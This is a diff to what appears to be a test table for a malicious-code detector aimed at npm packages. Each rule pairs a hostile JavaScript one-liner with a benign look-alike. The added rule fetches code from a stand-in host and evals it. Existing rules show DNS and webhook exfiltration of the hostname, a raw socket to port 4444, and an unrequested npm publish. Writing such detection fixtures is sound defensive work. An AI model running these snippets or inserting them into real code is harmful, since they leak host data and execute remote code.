@@ -37,6 +37,7 @@ const RULES: Array<[string, string, string]> = [
   ['dns-exfiltration', `const dns = require('dns'); dns.lookup(\`\${Buffer.from(require('os').hostname()).toString('hex')}.x.example.invalid\`, () => {});`, `const dns = require('dns'); dns.lookup('registry.npmjs.org', () => {});`],
   ['raw-socket', `const net = require('net'); const s = new net.Socket(); s.connect(4444, '203.0.113.7');`, `const net = require('net'); const s = new net.Socket(); s.connect(6379, 'localhost');`],
   ['identity-to-exfiltration-endpoint', `const os = require('os'); fetch('https://webhook.site/x?h=' + os.hostname());`, `const os = require('os'); fetch('https://api.example.invalid/status?h=' + os.hostname());`],
+  ['remote-code-eval', `require('https').get('https://x.example.invalid/p', (r) => { let d = ''; r.on('data', (c) => (d += c)); r.on('end', () => eval(d)); });`, `const src = ['1', '+', '1'].map(String).join(' '); module.exports = eval(src);`],
   ['npm-publish', `require('child_process').execSync('npm publish --access public');`, `console.log('run npm publish when you are ready');`],
   ['ci-workflow-write', `require('fs').writeFileSync('.github/workflows/ci.yml', 'on: push');`, `require('fs').writeFileSync('.github/CODEOWNERS', '* @me');`],
   ['module-compile', `const m = new module.constructor(); m._compile('', '');`, `const m = new Map();`],
